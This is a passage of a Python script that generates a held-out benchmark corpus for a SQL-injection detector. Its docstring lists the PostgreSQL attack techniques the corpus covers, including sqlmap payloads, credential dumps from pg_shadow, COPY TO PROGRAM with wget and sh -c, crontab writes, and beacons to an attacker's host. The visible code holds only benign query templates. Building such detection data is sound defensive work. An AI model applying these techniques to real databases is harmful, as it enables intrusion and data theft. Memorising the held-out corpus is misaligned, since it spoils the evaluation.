#!/usr/bin/env python3
"""Generator for the seventeenth held-out sql-guard corpus (deterministic, stdlib only).

    python3 make_seventeenth.py [OUTPUT]      # default: seventeenth.jsonl.gz next to this file

Rows follow dev.jsonl's schema and family vocabulary (fields id, sql, label,
family, template, input, inputs, variant, dbms, multi_statement, split) in
about dev's proportions, with the bookkeeping of corpus_kit.py (SlotCorpus,
as in make_ninth.py to make_sixteenth.py); rows whose text occurs in any
earlier corpus (dev to sixteenth) are skipped.  2,814 rows: 1,316 attacks
(46.8 %) and 1,498 benign; ids f17-NNNNNN, split "seventeenth".  Written for
generalization, so the templates, payload lists and benign generators are
new for this file:

* 88 application templates (`t17_<producer>_*`) on tables none of the
  earlier corpora use, in fifteen domains (a cranberry-bog co-operative, a
  drystone-walling contractor, a funicular railway, a seismograph network,
  an ice-hotel builder, a hot-sauce fermentery, a firefly survey, a coracle
  builder, a sand-sculpture festival, a steel-pan band, an eel fishery, a
  saffron farm, a music-box restorer, a jai-alai fronton and a kombucha
  brewery), each the SQL text one producer sends after splicing a request
  parameter into it: Java jOOQ plain SQL (ctx.fetch(String)), Hibernate
  createNativeQuery("..." + v), C# Dapper interpolated strings, Rust Diesel
  sql_query(format!(..)) and SeaORM Statement::from_string, Node
  Objection.js knex.raw / whereRaw, TypeORM manager.query(), Sequelize
  literal() (with its trailing `;`), Django RawSQL / .extra(where=...),
  peewee SQL(), Pony ORM db.select(f"..."), PHP Doctrine DBAL
  executeQuery("..." . $v) and CodeIgniter 4 with escaping switched off,
  Perl DBI do(), R DBI dbGetQuery(paste0(..)), Metabase native questions and
  Grafana panels with template variables inlined, PostgREST RPC
  (pgrst_source CTE with named arguments) and filters, Hasura run_sql and
  generated SQL, a pgAdmin-like admin console (VACUUM, ANALYZE, GRANT,
  COMMENT, LOCK, pg_cancel_backend), Flyway and Liquibase migrations with
  ${placeholders} -- other parameters stay bound as $n.  Statement shapes:
  MERGE with a derived source (the input inside it and twice in the
  actions), INSERT ... ON CONFLICT ... DO UPDATE ... WHERE, UPDATE ...
  RETURNING age(), DELETE ... USING ... RETURNING, WITH RECURSIVE, count(*)
  FILTER (WHERE ...), avg() FILTER, window frames with the input as the
  bound (ROWS n PRECEDING, RANGE '...' PRECEDING), CROSS / LEFT JOIN
  LATERAL, jsonb_path_query with the jsonpath from input, ->> key from
  input, @> jsonb, tsvector @@ to_tsquery / plainto_tsquery, ts_headline,
  range types (tstzrange &&, daterange &&, @> timestamptz), ARRAY[...] &&,
  array subscripts, inet <<=, TABLESAMPLE SYSTEM (n) REPEATABLE (n), FETCH
  FIRST n ROWS WITH TIES, DISTINCT ON, GROUP BY ROLLUP, percentile_cont
  WITHIN GROUP, a VALUES list joined to a table, date_bin, regex ~, EXCLUDE
  USING gist in a CREATE TABLE, PREPARE + EXECUTE, SAVEPOINT ... RELEASE,
  BEGIN; LOCK ... IN SHARE ROW EXCLUSIVE MODE; UPDATE; COMMIT, LOCK ...
  IN <mode> MODE NOWAIT, VACUUM (FREEZE, VERBOSE) / ANALYZE VERBOSE of a
  named table, CREATE INDEX CONCURRENTLY (also BRIN WITH (pages_per_range)),
  ALTER TABLE ADD COLUMN IF NOT EXISTS, COMMENT ON TABLE / COLUMN (E'')
  / FUNCTION ($mig$), GRANT ... TO "role", LISTEN, NOTIFY chan, '...',
  COPY ... FROM STDIN WITH (HEADER, DELIMITER / NULL from input), SET
  search_path / SET application_name / ALTER ROLE ... SET statement_timeout
  with input, a DO block whose format() argument is a $mig$ slot, and
  Flyway scripts (CREATE TABLE; GRANT).  Four templates replay a value the
  application stored earlier (second-order: a wall gang's foreman, a gig
  venue, a customer e-mail, a saffron grade);
* attack payloads of two kinds.  The sqlmap_* families are sqlmap requests
  rebuilt from its PostgreSQL payload tests, weighted to tests the earlier
  generators sent least (AND ... (subquery - comment), OR NOT, PostgreSQL
  OR ... (CAST), Parameter replace with 1/(SELECT 0), ORDER BY / GROUP BY
  boolean, Stacked queries (CASE ... 1/(SELECT 0)), > 8.1 AND time (comment),
  OR heavy query (comment), ORDER BY heavy query, error-based Parameter
  replace (GENERATE_SERIES) and ORDER BY, stacked (comment) variants, Glibc
  (comment)), detection and enumeration inferences for --passwords /
  --users / --privileges on pg_shadow and pg_user, --dbs and --tables,
  --columns through pg_namespace / pg_type / pg_attribute, --dump and
  --count of this file's tables, --common-tables guesses and --sql-query on
  pg_user_mappings, pg_hba_file_rules, pg_stat_activity, security-definer
  functions and pg_settings (default, --no-escape, --no-cast); boundaries
  from boundaries.xml the earlier files used least (the derived-table
  prefix `') AS x WHERE n=n`, doubled `'))` with `AND (('x'='x`, number
  boundaries `)) ... AND ((n=n`, --prefix pairs read off the error message);
  UNION requests with ORDER BY probing and dumps of pg_shadow,
  pg_user_mappings, pg_hba_file_rules, pg_stat_activity, pg_settings;
  takeover steps (support table, COPY FROM file, lo_import, lo_create,
  lo_from_bytea, COPY FROM PROGRAM, sys_eval UDF, cleanup); a few MySQL and
  SQLite tests; and for about one request in ten a new chain of the tamper
  scripts the earlier files used least (least, greatest, between,
  symboliclogical, space2morecomment, multiplespaces, lowercase,
  commentbeforeparentheses, and the header-only xforwardedfor / varnish).
  The hand families are PostgreSQL techniques written for this file, aimed
  at the slot they land in: VALUES rows closed and followed by rows of the
  attacker's, ON CONFLICT ... RETURNING, RETURNING lists reading pg_shadow
  and loot back, SET-list assignments (winner, payout, approved_by ...),
  terms added to interval literals, window-frame bounds and array
  subscripts replaced by probes and sleeps, JSON keys closed to extend the
  select list, $mig$-tagged DO bodies closed early; tautologies through
  range operators (@>, &&, -|-, isempty, lower_inf), tsquery matches,
  jsonb_path_exists and ?, inet >>, IS DISTINCT FROM, BETWEEN SYMMETRIC,
  regexp_like, ILIKE ANY; probes by position, left, lpad, octet_length,
  reverse, regexp_like, sha256 prefixes, substring regexes, btrim, hex
  encodings and privilege probes (postgres_fdw, Hasura's catalog,
  rolbypassrls, pg_execute_server_program, Flyway's history table); errors
  through casts to bigint / date / jsonb / inet / boolean / regproc /
  regtype / xml, bad tsquery and jsonpath, int4range, make_interval, array
  subscripts, ln(0); time by pg_sleep_for / pg_sleep_until, sleeps in
  VALUES, FILTER, windows, coalesce, heavy cross joins and sha256 loops;
  UNION arms through LATERAL, json_agg, CTEs, EXCEPT ... UNION ALL over
  pg_shadow, pg_user_mappings, pg_foreign_server, pg_hba_file_rules,
  pg_stat_activity, pg_policies, security-definer sources, Metabase's
  core_user and more; stacked user mappings and foreign servers to an
  attacker's host, RLS disabled and permissive policies, event triggers,
  Hasura metadata wipes, Metabase admin flags, Grafana data-source
  redirects, Flyway / Liquibase history and lock tampering, PREPARE
  TRANSACTION locks; COPY ... TO PROGRAM (wget, sh -c), crontab writes,
  lo_from_bytea + lo_export, pg_stat_file, pg_ls_dir /
  pg_ls_archive_statusdir, log files, dblink and postgres_fdw beacons; DO
  blocks that EXECUTE translate()d, hex-decoded, replace()d and
  array_to_string()-built text, EXECUTE ... USING, loops that RAISE
  secrets, SECURITY DEFINER plants, plperlu / plpython3u; dollar tags new
  for this file ($k$, $v17$, $λ$, $t_$, $Z9$, $q17$, $ñ$, $ß$ ...), E''
  octal and \\uXXXX escapes, U&'' with \\+XXXXXX, U&"..." relation names,
  convert_from(decode(..., 'base64' / 'hex')) and chr()-built text.  Values
  stored through one form and replayed by a later statement are marked
  stored_* / replayed_*.  Breakouts close the slot's quote and brackets (or
  the required tail a template names) and end with comment spellings the
  earlier files used least (`-- ''`, `--'`, `--"`, `--!`, `--=`, `--]`,
  `--<digit>`, `-- -- `, `--` + tab / CR LF / no-break space, `/*word`).
  Comment truncation uses `-- --`, `--;--`, `/**/--`, `/*!*/--`, `/**`,
  `--` followed by one of ' " # % & ~ ^ | @ . , a tab and `--`, a CR, or a
  lower-case word.  Obfuscation reshapes payloads outside their literals:
  consonant-upper, alternating, last-letter and two-letter-prefix case;
  runs of tabs, CRs, form feeds and newlines, also around `)`, =
  and ||; comments such as `/*!*/`, `/*+*/`, `/*1*/`, `/*=*/`, `/*)*/`,
  `/**//**/` and `--word<newline>`; and no spaces;
* benign rows from new input pools (apostrophe names, SQL-looking band,
  shop and place names, URLs and e-mails, JSON, long notes, Unicode with
  combining marks and scripts from Thai to Tamil, whitespace incl. CR LF and
  em spaces, numbers as strings, punctuation, formatted codes, and typed
  values for the typed slots: dates, timestamps, intervals, durations,
  tsquery strings, jsonpaths, JSON keys and documents, regexes, CIDRs, PIT
  tags, COPY delimiters and NULL strings, application names, schema names),
  attack strings escaped correctly for their slot (`escaped_attack_string`),
  new complex generators (`cx17_*`: jOOQ, Hibernate 6, Dapper, Objection,
  TypeORM, Sequelize, Django, peewee and Pony output; range / multirange,
  jsonpath, tsearch, array, numeric and string built-ins; Flyway, pgAdmin,
  Metabase, Grafana, Hasura, Dapper, traceparent and pg_hint_plan comments;
  recursive CTEs, frames, FILTER, named windows; query builders; Flyway /
  Liquibase scripts; UNION / EXCEPT / INTERSECT / VALUES reports; VALUES,
  generate_series and unnest batches; maintenance, transactions, COPY
  options, DDL with EXCLUDE constraints, introspection, parameterized
  statements, function and DO bodies, web search) and regression-test-style
  statements written for this file (`regress17:<file>.sql`: merge, with
  (SEARCH / CYCLE, MATERIALIZED, data-modifying), window (GROUPS, EXCLUDE),
  aggregates (FILTER, WITHIN GROUP), limit (WITH TIES), rangetypes,
  multirangetypes, arrays, jsonb / jsonpath, tsearch, tablesample,
  constraints (EXCLUDE, NULLS NOT DISTINCT, DEFERRABLE), prepare,
  transactions, lock, vacuum, create_index, privileges, comments, async,
  copy2, guc, strings (U&, UESCAPE, E'', $tag$, B''), lateral, returning,
  insert_conflict, domain, enum, generated / identity columns, int8,
  rangefuncs, horology, numeric, create_table, select, inet).

Labelling: see corpus_kit.SlotCorpus; the five `escape_bypass_backslash`
rows are escaped the wrong way for their literal (addslashes or a
backslash before the quote into a standard string, quote doubling only
into E'').

Checked once against PostgreSQL 15.18's raw parser (throwaway cluster on
loopback, each statement sent through psql as `SELECT 1/0;` + statement in
one simple query, so a syntax error is reported before anything runs):
all 1,498 benign rows parse (4 did not in a first draft -- an unescaped
apostrophe in a batch insert, a MERGE source without an alias, an
unparenthesised array subscript -- and were fixed); 939 of the 1,316
attacks parse and 377 do not (293 sqlmap requests, 32 of them tampered,
mostly boundaries that do not fit the slot: the wrong number of brackets,
the derived-table prefix, a condition in a VALUES row, a SET list, a
function's arguments or a COMMENT / NOTIFY literal, a value replaced in a
literal-only statement; 84 hand-written rows: open `/*` endings, breakouts
that leave a required tail behind, probes in repeated slots).  There is no
`parses` field, as in the seventh to sixteenth corpora.
"""
import base64, os, random, re, sys

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from corpus_kit import (SlotCorpus, addslashes, backslash_quotes, bisection, by_template, chrs, closers,  # noqa: E402
                        dollar_safe, double_quotes, identifier_input, kind, lex, load_earlier, marked, nulls, number_input, q,
                        quoted_ident_breakout, randnum, rdate, registry, regress_list, render, rstr, rts, rword, sqlmap_delays,
                        strip_andor, text_input, typed_input, union_request, without_spaces)
import corpus_kit  # noqa: E402
from corpus_kit import ids, params  # noqa: E402
from functools import partial  # noqa: E402

SEED = 17171717
HERE = os.path.dirname(os.path.abspath(__file__))
EARLIER = ("dev", "generalization", "blind", "holdout", "fresh", "sixth", "seventh", "eighth", "ninth", "tenth", "eleventh", "twelfth",
           "thirteenth", "fourteenth", "fifteenth", "sixteenth")
PG = "PostgreSQL"


# ---------------------------------------------------------------- application templates
# (name, text, {slot: (type, the template's own values, "typed:KIND" or "",
# cut, cond_cut)}), as in make_sixteenth.py: the SQL text one producer sends
# after splicing a request parameter into it (the producer is the second
# part of the name; other parameters stay bound as $n).  Slot types: q '...',
# e E'...', d $mig$...$mig$, qi "...", n number, list (numbers joined with
# commas), col (ORDER BY expression), dir (ASC/DESC), ident (part of a bare
# identifier).  cut: what closes the statement's open parts after the slot
# when more than brackets must follow; cond_cut: what closes the slot before
# a condition appended in its WHERE.
def S(typ, vals, knd="", cut=None, cond_cut=None):
    return (typ, vals, "typed:" + knd if knd else "", cut, cond_cut)


T = [
 # cranberry bog co-operative -- Java jOOQ, ctx.fetch(String) / DSL.condition(String) with concatenated text
 ("t17_jooq_bog_beds_ties", "SELECT bed_id, variety, acreage FROM bog_beds WHERE variety = '{a}' AND flood_ready ORDER BY acreage DESC FETCH FIRST {b} ROWS WITH TIES",
  {"a": S("q", ["Stevens", "Ben Lear"]), "b": S("n", ["5", "12"])}),
 ("t17_jooq_harvest_merge", "MERGE INTO harvest_tallies AS t USING (SELECT bed_id, sum(barrels) AS barrels FROM harvest_loads WHERE load_date = '{a}' GROUP BY bed_id) AS s ON t.bed_id = s.bed_id AND t.season = {b} WHEN MATCHED THEN UPDATE SET barrels = s.barrels WHEN NOT MATCHED THEN INSERT (bed_id, season, barrels) VALUES (s.bed_id, {b}, s.barrels)",
  {"a": S("q", ["2025-10-02", "2024-09-28"], "date", ") AS s ON true WHEN MATCHED THEN DO NOTHING"), "b": S("n", ["2025", "2024"])}),
 ("t17_jooq_frost_window", "SELECT sensor_id, read_at, temp_c, min(temp_c) OVER (PARTITION BY sensor_id ORDER BY read_at RANGE BETWEEN '{a}' PRECEDING AND CURRENT ROW) AS low_run FROM bog_frost_readings WHERE bog_id = {b}",
  {"a": S("q", ["2 hours", "45 minutes"], "interval", " PRECEDING AND CURRENT ROW) AS x FROM bog_frost_readings"), "b": S("n", ["7", "31"])}),
 ("t17_jooq_notes_tsquery", "SELECT note_id, bed_id, ts_headline('english', body, q) AS hl FROM grower_notes, to_tsquery('english', '{a}') AS q WHERE body_tsv @@ q ORDER BY ts_rank(body_tsv, q) DESC LIMIT {b}",
  {"a": S("q", ["fruitworm & spray", "frost | sprinkler"], "tsq", ") AS q"), "b": S("n", ["20", "50"])}),
 ("t17_jooq_berry_sample", "SELECT bed_id, berry_count, rot_pct FROM berry_samples TABLESAMPLE SYSTEM ({a}) REPEATABLE ({b}) WHERE variety = '{c}'",
  {"a": S("n", ["10", "2.5"]), "b": S("n", ["42", "7"]), "c": S("q", ["Pilgrim", "Crimson Queen"])}),
 ("t17_jooq_flood_upsert", "INSERT INTO bed_flood_log (bed_id, flooded_on, depth_cm, note) VALUES ({a}, '{b}', {c}, '{d}') ON CONFLICT (bed_id, flooded_on) DO UPDATE SET depth_cm = EXCLUDED.depth_cm, note = EXCLUDED.note WHERE bed_flood_log.locked IS NOT TRUE",
  {"a": S("n", ["14", "203"]), "b": S("q", ["2025-10-05", "2024-12-01"], "date"), "c": S("n", ["30", "45"]), "d": S("q", ["harvest flood", "winter ice cover"])}),
 # drystone walling contractor -- Hibernate, session.createNativeQuery("..." + value)
 ("t17_hibernate_wall_sections", "select ws.section_id, ws.length_m, ws.stone_type from wall_sections ws where ws.estate = '{a}' and ws.height_cm between {b} and 180 order by ws.section_id",
  {"a": S("q", ["Brackenhall", "Low Row"]), "b": S("n", ["90", "120"])}),
 ("t17_hibernate_repair_update", "update wall_repairs set status='{a}', waller='{b}', updated_at=current_timestamp where repair_id={c} returning repair_id, status, age(updated_at, reported_at) as turnaround",
  {"a": S("q", ["rebuilt", "awaiting stone"]), "b": S("q", ["Owain Pryce", "Bethan"]), "c": S("n", ["5521", "87"])}),
 ("t17_hibernate_coping_lateral", "select e.estate_name, r.* from estates e cross join lateral (select section_id, coping_style, length_m from wall_sections s where s.estate_id = e.estate_id and s.coping_style = '{a}' order by length_m desc limit {b}) r where e.county = $1",
  {"a": S("q", ["buck and doe", "cock and hen"], "", ") r"), "b": S("n", ["3", "10"], "", ") r")}),
 ("t17_hibernate_quarry_array", "select quarry_id, quarry_name, stone_kinds from quarries where stone_kinds && array['{a}']::text[] and active = true order by {b}",
  {"a": S("q", ["gritstone", "carboniferous limestone"]), "b": S("col", ["quarry_name", "quarry_id desc", "cardinality(stone_kinds) desc"])}),
 ("t17_hibernate_gang_purge", "delete from gang_bookings gb using wall_gangs g where gb.gang_id = g.gang_id and g.foreman = '{a}' and gb.booked_for < current_date - {b}",
  {"a": S("q", ["Dai Morgan", "Hywel ap Rhys"]), "b": S("n", ["30", "365"])}),
 # funicular railway -- C# Dapper, connection.Query($"...") with interpolated values
 ("t17_dapper_car_trips", "SELECT TripId, CarName, DepartedAt, Passengers FROM funicular_trips WHERE CarName = '{a}' AND DepartedAt::date = '{b}' ORDER BY DepartedAt",
  {"a": S("q", ["Polly", "Upper Car"]), "b": S("q", ["2025-07-19", "2024-08-03"], "date")}),
 ("t17_dapper_cable_inspect", "INSERT INTO cable_inspections (cable_id, inspector, wire_breaks, findings) VALUES ({a}, '{b}', {c}, E'{d}') RETURNING inspection_id",
  {"a": S("n", ["2", "1"]), "b": S("q", ["K. Adebayo", "Lena Schütz"]), "c": S("n", ["0", "3"]), "d": S("e", ["splice OK; sheave wear 0.4 mm", "lay length fine\\nlubricate pulley 3"])}),
 ("t17_dapper_headway_filter", "SELECT date_trunc('hour', departed_at) AS hr, count(*) FILTER (WHERE passengers > {a}) AS busy, count(*) FILTER (WHERE direction = '{b}') AS dir_trips FROM funicular_trips WHERE departed_at >= now() - interval '{c}' GROUP BY 1 ORDER BY 1",
  {"a": S("n", ["40", "60"]), "b": S("q", ["up", "down"]), "c": S("q", ["1 day", "6 hours"], "interval")}),
 ("t17_dapper_fare_range", "SELECT fare_id, fare_name, price FROM fares WHERE valid_during @> '{a}'::timestamptz AND zone = {b}",
  {"a": S("q", ["2025-06-01 09:00", "2024-12-24 16:30+01"], "ts"), "b": S("n", ["1", "2"])}),
 ("t17_dapper_queue_lock", "BEGIN; LOCK TABLE station_queues IN SHARE ROW EXCLUSIVE MODE; UPDATE station_queues SET waiting = waiting - {a} WHERE station = '{b}'; COMMIT",
  {"a": S("n", ["12", "1"]), "b": S("q", ["Valley Station", "Summit"])}),
 ("t17_dapper_app_name", "SET application_name = '{a}'",
  {"a": S("q", ["kiosk-summit-2", "turnstile.valley"], "appname")}),
 # seismograph network -- Rust, Diesel sql_query(format!(..)) and SeaORM Statement::from_string
 ("t17_diesel_aftershocks", "WITH RECURSIVE aftershocks AS (SELECT event_id, parent_event, magnitude, 1 AS depth FROM quake_events WHERE event_id = {a} UNION ALL SELECT q.event_id, q.parent_event, q.magnitude, a.depth + 1 FROM quake_events q JOIN aftershocks a ON q.parent_event = a.event_id WHERE a.depth < {b}) SELECT * FROM aftershocks ORDER BY depth, magnitude DESC",
  {"a": S("n", ["88120", "4051"], "", ") SELECT 1"), "b": S("n", ["3", "6"], "", ") SELECT 1")}),
 ("t17_diesel_station_jsonpath", "SELECT station_code, jsonb_path_query(sensor_meta, '{a}') AS v FROM seismo_stations WHERE network = '{b}'",
  {"a": S("q", ["$.channels[*].gain", "$.sensor.model"], "jpath"), "b": S("q", ["IU", "GB"])}),
 ("t17_diesel_pick_update", "UPDATE phase_picks SET phase = '{a}', pick_time = pick_time + interval '{b}', analyst = $1 WHERE pick_id = {c} RETURNING pick_id, phase, pick_time",
  {"a": S("q", ["Pn", "SKS"]), "b": S("q", ["0.25 seconds", "-1.5 seconds"], "interval"), "c": S("n", ["90417", "12"])}),
 ("t17_seaorm_waveform_range", "SELECT w.segment_id, w.channel, w.span FROM waveform_segments w WHERE w.span && tstzrange('{a}', '{b}', '[)') AND w.channel = '{c}'",
  {"a": S("q", ["2025-03-01 00:00:00+00", "2024-11-11 04:10"], "ts"), "b": S("q", ["2025-03-01 01:00:00+00", "2024-11-11 05:00"], "ts"), "c": S("q", ["BHZ", "HHN"])}),
 ("t17_seaorm_quake_sorted", "SELECT event_id, magnitude, depth_km, region FROM quake_events WHERE region ILIKE '%{a}%' ORDER BY {b} {c} LIMIT {d} OFFSET {e}",
  {"a": S("q", ["Aegean", "Kermadec"]), "b": S("col", ["magnitude", "origin_time", "depth_km"]), "c": S("dir", ["DESC", "ASC"]), "d": S("n", ["50", "10"]), "e": S("n", ["0", "100"])}),
 ("t17_seaorm_alert_notify", "NOTIFY seismo_alerts, '{a}'",
  {"a": S("q", ["M5.8 Kermadec 33km", "station GB.EDI offline"])}),
 ("t17_seaorm_analyze", "ANALYZE VERBOSE seismo_{a}",
  {"a": S("ident", ["picks_2025", "stations"])}),
 # ice hotel builder -- Node Objection.js, knex.raw / whereRaw with template strings
 ("t17_objection_suite_free", "select \"suites\".* from \"suites\" where \"suites\".\"season\" = {a} and \"suites\".\"theme\" = '{b}' and not exists (select 1 from \"bookings\" where \"bookings\".\"suite_id\" = \"suites\".\"id\" and \"bookings\".\"stay\" && daterange('{c}', '{d}'))",
  {"a": S("n", ["2026", "2025"]), "b": S("q", ["Northern Lights", "Polar Bear"]), "c": S("q", ["2026-01-10", "2025-12-28"], "date"), "d": S("q", ["2026-01-12", "2026-01-02"], "date")}),
 ("t17_objection_block_rows", "insert into \"ice_blocks\" (\"harvest_id\", \"block_no\", \"clarity\", \"cut_at\") values ({a}, {b}, '{c}', '2026-01-12 07:30:00'), ({a}, {b} + 1, '{c}', '2026-01-12 07:35:00') returning \"id\"",
  {"a": S("n", ["311", "40"]), "b": S("n", ["1", "57"]), "c": S("q", ["clear", "white core"])}),
 ("t17_objection_sculpt_json", "select \"id\", \"artist\", \"spec\" ->> '{a}' as \"val\" from \"sculptures\" where \"spec\" @> '{b}'::jsonb order by \"id\" desc",
  {"a": S("q", ["chisel", "height_cm"], "jkey"), "b": S("q", ["{\"hall\": \"main\"}", "{\"lit\": true}"], "json")}),
 ("t17_objection_chamber_exclude", "create table if not exists chamber_slots_{a} (chamber text not null, slot tstzrange not null, exclude using gist (chamber with =, slot with &&))",
  {"a": S("ident", ["2026", "annex"], "", " (x int)")}),
 ("t17_objection_melt_filter", "select chamber, avg(temp_c) filter (where sensor = '{a}') as temp, max(drip_ml) as drip from melt_readings where read_at > now() - '{b}'::interval group by chamber having max(drip_ml) > {c}",
  {"a": S("q", ["ceiling-2", "floor"]), "b": S("q", ["12 hours", "3 days"], "interval"), "c": S("n", ["5", "40"])}),
 # hot sauce fermentery -- TypeORM manager.query() and Sequelize literal()
 ("t17_typeorm_crocks", "SELECT \"crock\".\"id\" AS \"crock_id\", \"crock\".\"pepper\" AS \"crock_pepper\", \"crock\".\"brine_pct\" AS \"crock_brine_pct\" FROM \"crock\" \"crock\" WHERE \"crock\".\"pepper\" = '{a}' AND \"crock\".\"brine_pct\" >= {b}",
  {"a": S("q", ["Scotch bonnet", "Aji Amarillo"]), "b": S("n", ["3.5", "5"])}),
 ("t17_typeorm_ph_update", "UPDATE \"ph_reading\" SET \"ph\" = {a}, \"note\" = '{b}' WHERE \"crock_id\" = {c} AND \"taken_at\" = (SELECT max(\"taken_at\") FROM \"ph_reading\" WHERE \"crock_id\" = {c}) RETURNING \"id\", \"ph\"",
  {"a": S("n", ["3.4", "4.1"]), "b": S("q", ["kahm yeast skimmed", "lively"]), "c": S("n", ["77", "9"])}),
 ("t17_typeorm_bottling_copy", "COPY bottling_runs (run_no, sauce, bottles, scoville) FROM STDIN WITH (FORMAT csv, HEADER true, DELIMITER '{a}')",
  {"a": S("q", [";", "|"], "delim")}),
 ("t17_sequelize_sauce_order", "SELECT \"id\", \"name\", \"scoville\" FROM \"Sauces\" AS \"Sauce\" WHERE \"Sauce\".\"deletedAt\" IS NULL ORDER BY {a} LIMIT 25;",
  {"a": S("col", ["\"scoville\" DESC", "\"name\"", "\"id\""])}),
 ("t17_sequelize_label_count", "SELECT \"id\", \"name\", (SELECT count(*) FROM \"Labels\" AS l WHERE l.\"sauceId\" = \"Sauce\".\"id\" AND l.\"lang\" = '{a}') AS \"labelCount\" FROM \"Sauces\" AS \"Sauce\" WHERE \"Sauce\".\"heat\" IN ({b});",
  {"a": S("q", ["en", "es-MX"]), "b": S("list", ["3, 4, 5", "2"])}),
 ("t17_sequelize_batch_savepoint", "SAVEPOINT sp_batch; UPDATE \"Batches\" SET \"status\" = '{a}' WHERE \"id\" = {b}; RELEASE SAVEPOINT sp_batch",
  {"a": S("q", ["fermenting", "blended"]), "b": S("n", ["1204", "31"])}),
 # firefly survey -- Django RawSQL / .extra(where=[...]) and peewee SQL()
 ("t17_djraw_sightings", "SELECT \"survey_sighting\".\"id\", \"survey_sighting\".\"site_id\", \"survey_sighting\".\"flash_count\", (flash_count::float / NULLIF(minutes, 0)) AS \"rate\" FROM \"survey_sighting\" WHERE (\"survey_sighting\".\"species\" = '{a}' AND (observed_on >= '{b}')) ORDER BY \"survey_sighting\".\"observed_on\" DESC LIMIT 21",
  {"a": S("q", ["Photinus pyralis", "Lampyris noctiluca"]), "b": S("q", ["2025-06-01", "2024-07-15"], "date")}),
 ("t17_djraw_sites_canopy", "SELECT \"survey_site\".\"id\", \"survey_site\".\"name\" FROM \"survey_site\" WHERE \"survey_site\".\"habitat\" IN ('{a}') AND (canopy_pct BETWEEN {b} AND 100)",
  {"a": S("q", ["wet meadow", "woodland edge"]), "b": S("n", ["20", "0"])}),
 ("t17_djraw_volunteer_recent", "SELECT \"survey_volunteer\".\"id\", \"survey_volunteer\".\"handle\", (SELECT COUNT(*) FROM survey_sighting s WHERE s.volunteer_id = survey_volunteer.id AND s.observed_on > now() - interval '{a} days') AS \"recent\" FROM \"survey_volunteer\" WHERE \"survey_volunteer\".\"region\" = '{b}'",
  {"a": S("q", ["14", "60"], "count"), "b": S("q", ["Great Smokies", "Somerset Levels"])}),
 ("t17_peewee_flash_pattern", "SELECT \"t1\".\"id\", \"t1\".\"pattern\" FROM \"flash_pattern\" AS \"t1\" WHERE ((\"t1\".\"pattern\" ~ '{a}') AND (\"t1\".\"genus\" = '{b}'))",
  {"a": S("q", ["^J{2,}", "(dot)+dash"], "regex"), "b": S("q", ["Photuris", "Pyractomena"])}),
 ("t17_peewee_transect_upsert", "INSERT INTO \"transect_walk\" (\"site_id\", \"walker\", \"started_at\", \"weather\") VALUES ({a}, '{b}', '{c}', '{d}') ON CONFLICT (\"site_id\", \"started_at\") DO UPDATE SET \"weather\" = EXCLUDED.\"weather\" WHERE \"transect_walk\".\"walker\" = '{b}' RETURNING \"transect_walk\".\"id\"",
  {"a": S("n", ["18", "4"]), "b": S("q", ["moth_ed", "Priya R."]), "c": S("q", ["2025-06-21 21:40", "2024-07-02 22:05"], "ts"), "d": S("q", ["warm, still", "drizzle"])}),
 ("t17_peewee_site_notes_fts", "SELECT \"id\", \"notes\" FROM \"site_note\" WHERE (to_tsvector('simple', \"notes\") @@ plainto_tsquery('simple', '{a}')) LIMIT {b}",
  {"a": S("q", ["synchronous flashing", "light pollution"]), "b": S("n", ["10", "100"])}),
 # coracle builder -- Python Pony ORM, db.select(f"...") / raw_sql()
 ("t17_pony_hides", "SELECT \"c\".\"id\", \"c\".\"hide\", \"c\".\"frame_wood\" FROM \"Coracle\" \"c\" WHERE \"c\".\"hide\" = '{a}' AND \"c\".\"diameter_cm\" > {b}",
  {"a": S("q", ["tarred calico", "ox hide"]), "b": S("n", ["110", "95"])}),
 ("t17_pony_paddle_frame", "SELECT maker, paddle_id, weight_g, avg(weight_g) OVER (PARTITION BY maker ORDER BY made_on ROWS BETWEEN {a} PRECEDING AND CURRENT ROW) AS avg_w FROM paddles WHERE maker = '{b}'",
  {"a": S("n", ["3", "7"], "", " PRECEDING AND CURRENT ROW) AS x FROM paddles"), "b": S("q", ["Teifi Coracles", "Ironbridge"])}),
 ("t17_pony_order_lines", "SELECT o.order_id, l.item, l.qty FROM coracle_orders o JOIN order_lines l ON l.order_id = o.order_id AND l.item <> '{a}' WHERE o.customer_email = '{b}'",
  {"a": S("q", ["paddle", "carry strap"]), "b": S("q", ["rhian@coracle.example", "orders@riverfolk.example"], "email")}),
 ("t17_pony_willow_rods", "SELECT batch_id, willow_lengths[{a}] AS rod_len, cardinality(willow_lengths) FROM willow_batches WHERE cut_season = '{b}'",
  {"a": S("n", ["1", "4"]), "b": S("q", ["2024/25", "winter 2025"])}),
 ("t17_pony_grant_reader", "GRANT SELECT, INSERT ON coracle_orders TO \"{a}\"",
  {"a": S("qi", ["shop_frontend", "accounts-ro"])}),
 # sand sculpture festival -- PHP Doctrine DBAL executeQuery("..." . $v) and CodeIgniter 4 (escape = false)
 ("t17_dbal_plots", "SELECT p.plot_no, p.team, p.sand_tonnes FROM festival_plots p WHERE p.festival_year = {a} AND p.team LIKE '{b}%' ORDER BY p.plot_no",
  {"a": S("n", ["2025", "2023"]), "b": S("q", ["Sandy", "Team Dun"])}),
 ("t17_dbal_votes_inet", "SELECT DISTINCT ON (sculpture_id) sculpture_id, voter_ip, voted_at FROM public_votes WHERE festival_year = {a} AND voter_ip <<= '{b}'::inet ORDER BY sculpture_id, voted_at DESC",
  {"a": S("n", ["2025", "2024"]), "b": S("q", ["192.0.2.0/24", "2001:db8::/48"], "cidr")}),
 ("t17_dbal_misting_log", "INSERT INTO misting_log (plot_no, litres, misted_at, crew) SELECT plot_no, {a}, now(), '{b}' FROM festival_plots WHERE festival_year = {c} AND zone = '{d}'",
  {"a": S("n", ["40", "15"]), "b": S("q", ["night crew", "Jonas"]), "c": S("n", ["2025", "2024"]), "d": S("q", ["north dunes", "B"])}),
 ("t17_ci_judge_scores", "SELECT * FROM \"judge_scores\" WHERE \"category\" = '{a}' AND \"score\" >= {b} ORDER BY \"score\" DESC, \"judge\" ASC",
  {"a": S("q", ["masters", "family"]), "b": S("n", ["7", "8.5"])}),
 ("t17_ci_theme_update", "UPDATE \"sculptures\" SET \"theme\" = '{a}', \"height_m\" = {b} WHERE \"id\" = {c}",
  {"a": S("q", ["Atlantis rising", "sea dragons"]), "b": S("n", ["3.2", "4"]), "c": S("n", ["61", "7"])}),
 ("t17_ci_plot_comment", "COMMENT ON TABLE festival_plots IS '{a}'",
  {"a": S("q", ["plots per festival year; sand in tonnes", "owned by logistics"])}),
